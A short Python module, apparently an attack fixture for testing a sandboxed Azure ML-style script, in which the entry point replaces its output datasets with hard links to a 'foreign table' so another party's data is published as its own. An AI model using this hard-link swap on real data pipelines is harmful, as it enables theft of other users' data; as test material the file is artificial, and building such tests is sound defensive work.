"""Swaps a result for a hard link to a foreign table, which would be kept as its own."""

import os

from attack import BAIT, attack, publish_forged


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    def link(path):
        os.link(BAIT["foreign_table"], path)

    publish_forged(result_dataset=link, result_dataset2=link)
